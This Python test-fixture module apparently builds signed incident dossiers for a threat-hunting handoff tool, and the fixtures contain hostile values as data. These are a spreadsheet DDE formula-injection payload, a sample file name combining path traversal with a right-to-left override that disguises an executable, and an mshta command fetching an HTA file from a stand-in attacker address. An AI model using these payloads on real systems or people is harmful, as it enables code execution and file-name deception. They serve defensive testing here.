"""Dossiers by hand, and a signer: what packaging takes, without a database."""

import dataclasses
import hashlib
import io
import json
from datetime import UTC, datetime, timedelta

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from huntline.handoff.dossier import (
    Account,
    Device,
    Dossier,
    Evidence,
    File,
    Message,
    Moment,
    Party,
    Process,
    Registry,
    Sample,
    Story,
    Subject,
    Value,
)
from huntline.handoff.keys import Signer
from huntline.handoff.verifying import fingerprint_of

AT = datetime(2026, 11, 15, 22, 14, 3, 123456, tzinfo=UTC)
KEY_URL = "http://127.0.0.1:8080/.well-known/huntline-handoff.pub"
QUERY = "DeviceProcessEvents | where FileName =~ 'mshta.exe'"
# What the timeline of an attacker's machine might hold.
FORMULA = "=cmd|' /C calc'!A0"
FILE = File("mshta.exe", r"C:\Windows\System32", "a" * 40, "b" * 64, "c" * 32, 12345, "ws01", "Suspicious", ("ta1",))


def signer() -> Signer:
    """Return a signer with a key of its own."""
    private = Ed25519PrivateKey.generate()
    public = private.public_key()
    return Signer(private, public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo), fingerprint_of(public))


def evidence(rows=(("ws01", 1, None), (FORMULA, 2, ["x"])), **changes) -> Evidence:
    """Return evidence over these rows."""
    packed = json.dumps([list(row) for row in rows], separators=(",", ":"), ensure_ascii=False).encode()
    values = {
        "id": "01999999-0000-7000-8000-000000000001",
        "query": QUERY,
        "query_sha256": hashlib.sha256(QUERY.encode()).hexdigest(),
        "sql_sha256": "0" * 64,
        "window_start": AT - timedelta(days=7),
        "window_end": AT,
        "asked_at": AT,
        "captured_at": AT,
        "captured_by": "hunter@watchtower.example",
        "schema_version": "1",
        "engine_version": "26.9",
        "compiler_version": "1",
        "tables": ["DeviceProcessEvents"],
        "columns": [("DeviceName", "string"), ("Number", "long"), ("More", "dynamic")],
        "row_count": len(rows),
        "truncated": False,
        "rows_sha256": hashlib.sha256(packed).hexdigest(),
        "open_rows": lambda: packed,
        "alerts": ["ta1"],
    }
    return Evidence(**(values | changes))


def sample(content=b"MZ\x90\0 a sample", name="../../invoice.docm\u202ecod.exe") -> Sample:
    """Return a sample with this content."""
    return Sample(
        name,
        len(content),
        hashlib.sha256(content).hexdigest(),
        lambda: io.BytesIO(content),
        kind="application/x-dosexec",
    )


def dossier(**changes) -> Dossier:
    """Return a dossier with something of everything."""
    values = {
        "id": "01999999-0000-7000-8000-0000000000aa",
        "tenant_id": "01999999-0000-7000-8000-0000000000bb",
        "customer": "Aurora Grid",
        "provider": "Watchtower",
        "subject": Subject(
            "incident", "17", "Script host started by a document", "High", AT, AT + timedelta(hours=1), "http://127.0.0.1:8080/tenants/aurora/incidents/17"
        ),
        "made_by": Party("Mina Kim", "Aurora Grid", "mina@aurora.example"),
        "made_for": Party("Bo Response", "Responders Ltd", "bo@responders.example"),
        "language": "en",
        "as_of": AT + timedelta(days=1),
        "responders": "Watchtower CIRT, cirt@watchtower.example, +1 555 0100",
        "stories": [
            Story("ta1", "Script host started by a document", "High", "Execution", "ThreatExperts", "New", "Unknown", AT, AT, AT,
                  "A document started mshta.exe.",
                  "At 22:14 winword.exe started mshta.exe.", ["Isolate ws01 from the network."], ["T1218.005", "T1566"]),
        ],
        "timeline": [
            Moment(AT, "event", "Script host", "ta1", "d1", "ws01", r"AURORA\mina", "mshta.exe", r"C:\Windows\System32", "a" * 40, "b" * 64,
                   FORMULA, "203.0.113.9", "http://203.0.113.9/x.hta", "DeviceProcessEvents", 77),
            Moment(AT + timedelta(hours=2), "alert", "Script host started by a document", "ta1"),
        ],
        "devices": [Device("d1", "ws01.aurora.example", "Windows11", "Unknown", ("ta1",)), Device("d2", "srv01", "Linux")],
        "accounts": [Account("mina", "AURORA", "S-1-5-21-1", "mina@aurora.example", "", "Unknown", ("ta1",))],
        "files": [FILE],
        "processes": [
            Process(FILE, 4711, r"mshta.exe 'http://203.0.113.9/x.hta' \n", AT, "winword.exe", 4000,
                    r"AURORA\mina", "Suspicious", ("ta1",)),
        ],
        "addresses": [Value("203.0.113.9", "Malicious", ("ta1",)), Value("2001:db8::1", "Suspicious"),
                      Value("not an address", "Malicious")],
        "urls": [Value("http://203.0.113.9/x.hta?a='b'", "Suspicious", ("ta1",)), Value("evil.example", "Malicious"),
                 Value("evil.example/path", "Unknown")],
        "registry": [Registry(r"HKLM\Software\Run", "x", "String", "mshta", "ws01", "Suspicious", ("ta1",))],
        "evidence": [evidence()],
        "messages": [Message(AT, "mina@aurora.example", "Is it contained?", "ta1")],
    }  # fmt: skip
    return Dossier(**(values | changes))


def changed(one, **changes):
    """Return a copy with other values."""
    return dataclasses.replace(one, **changes)
